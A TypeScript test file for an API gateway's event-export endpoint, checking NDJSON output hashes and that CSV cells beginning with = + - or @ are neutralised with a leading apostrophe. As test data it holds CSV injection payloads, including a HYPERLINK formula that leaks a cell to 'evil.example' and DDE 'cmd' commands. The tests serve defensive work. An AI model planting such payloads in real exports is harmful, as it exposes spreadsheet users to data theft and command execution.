import { createHash } from 'node:crypto';
import request from 'supertest';
import {
  bearer,
  bulletin,
  csvRecords,
  parseCsv,
  parseNdjson,
  raise,
  textParser,
} from '../support/fixtures.js';
import { ACCOUNT_ID, startGateway, type GatewayHarness } from '../support/gateway-harness.js';

/** Cells a spreadsheet would run as a formula; OWASP's list, plus tab and CR. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('exporting events', () => {
  let gateway: GatewayHarness;
  let auditor: string;
  const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)'];
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    gateway = await startGateway();
    auditor = await gateway.createPartner({ role: 'auditor', accounts: [] });
    const plain = await gateway.createPartner({ name: 'plain partner' });
    const hostile = await gateway.createPartner({ name: '=cmd|\' /C notepad\'!A0' });
    ids.plain = await raise(gateway, plain, bulletin({ name: 'An ordinary bulletin' }));
    for (const [i, formula] of formulas.entries())
      ids[`formula${i}`] = await raise(gateway, hostile, bulletin({ name: formula, properties: { program_id: formula } }), {
        headers: { 'Idempotency-Key': `${formula.slice(0, 1)}idem-${i}` },
      });
    // Unknown business event: a failed event whose business_event and error cells are both attacker-chosen.
    ids.failed = await raise(gateway, hostile, bulletin({ business_event: '=Formula Event', name: '@failed one' }));
  });
  afterAll(() => gateway.close());

  const exportText = async (query: Record<string, string>, key = auditor) => {
    const response = await request(gateway.http).get('/v1/events/export').query(query).set(bearer(key)).buffer(true).parse(textParser).expect(200);
    return { response, text: response.body as string };
  };

  describe('as NDJSON', () => {
    it('streams a header, every event oldest first, and a trailer that hashes the lines before it', async () => {
      const { response, text } = await exportText({ format: 'ndjson' });
      expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
      expect(response.headers['content-disposition']).toMatch(/attachment; filename="bulletin-events\.ndjson"/);
      const { header, events, trailer } = parseNdjson(text);
      expect(header).toMatchObject({ type: 'header', format: expect.any(String) });
      expect(events.map((event) => event.id)).toEqual(Object.values(ids));
      expect(events[0]).toMatchObject({ id: ids.plain, status: 'sent', payload: bulletin({ name: 'An ordinary bulletin' }) });

      const lines = text.split('\n').filter(Boolean);
      const body = lines.slice(0, -1).map((line) => `${line}\n`).join('');
      expect(trailer).toMatchObject({ type: 'trailer', lines: lines.length - 1, sha256: createHash('sha256').update(body).digest('hex') });
    });

    it('keeps the data exactly as received: JSON needs no neutralising', async () => {
      const { events } = parseNdjson((await exportText({})).text);
      expect(events.find((event) => event.id === ids.formula0)).toMatchObject({ name: formulas[0], payload: { name: formulas[0] } });
    });

    it.each<[string, Record<string, string>, string[]]>([
      ['status', { status: 'failed' }, ['failed']],
      ['q', { q: 'ordinary' }, ['plain']],
      ['business_event', { business_event: '=Formula Event' }, ['failed']],
      ['q and status together', { q: 'SUM', status: 'sent' }, ['formula1', 'formula3']],
    ])('streams only the events matching the %s filter', async (_filter, query, expected) => {
      const { events, trailer } = parseNdjson((await exportText({ format: 'ndjson', ...query })).text);
      expect(events.map((event) => event.id)).toEqual(expected.map((label) => ids[label]));
      expect(trailer.lines).toBe(expected.length + 1);
    });

    it('still has a header and a trailer when nothing matches', async () => {
      const { header, events, trailer } = parseNdjson((await exportText({ q: 'no such bulletin' })).text);
      expect(header).toBeDefined();
      expect(events).toEqual([]);
      expect(trailer).toMatchObject({ lines: 1 });
    });
  });

  describe('as CSV', () => {
    it('streams a header row and one row per matching event', async () => {
      const { response, text } = await exportText({ format: 'csv' });
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      expect(response.headers['content-disposition']).toMatch(/filename="bulletin-events\.csv"/);
      const rows = csvRecords(text);
      expect(rows.map((row) => row.id)).toEqual(Object.values(ids));
      expect(rows[0]).toMatchObject({ id: ids.plain, name: 'An ordinary bulletin', status: 'sent', account_id: ACCOUNT_ID, partner_name: 'plain partner' });
      expect(JSON.parse(rows[0].payload)).toEqual(bulletin({ name: 'An ordinary bulletin' }));

      const failedOnly = csvRecords((await exportText({ format: 'csv', status: 'failed' })).text);
      expect(failedOnly.map((row) => row.id)).toEqual([ids.failed]);
    });

    it('neutralises every cell that starts with = + - or @', async () => {
      const { text } = await exportText({ format: 'csv' });
      const [header, ...rows] = parseCsv(text);
      expect(header.some((cell) => FORMULA_START.test(cell))).toBe(false);
      const dangerous = rows.flatMap((cells, row) => cells.filter((cell) => FORMULA_START.test(cell)).map((cell) => ({ row, cell })));
      expect(dangerous).toEqual([]);
    });

    it.each(formulas.map((formula, i) => [formula, i] as const))('keeps %s readable as text, with a leading apostrophe', async (formula, i) => {
      const rows = csvRecords((await exportText({ format: 'csv' })).text);
      const row = rows.find((candidate) => candidate.id === ids[`formula${i}`])!;
      expect(row.name).toBe(`'${formula}`);
      expect(row.partner_name).toBe("'=cmd|' /C notepad'!A0");
      expect(row.idempotency_key).toBe(`'${formula.slice(0, 1)}idem-${i}`);
      expect(JSON.parse(row.payload).properties.program_id).toBe(formula);
    });

    it('neutralises attacker-chosen business events too', async () => {
      const rows = csvRecords((await exportText({ format: 'csv', status: 'failed' })).text);
      expect(rows).toEqual([expect.objectContaining({ business_event: "'=Formula Event", name: "'@failed one" })]);
    });
  });
});
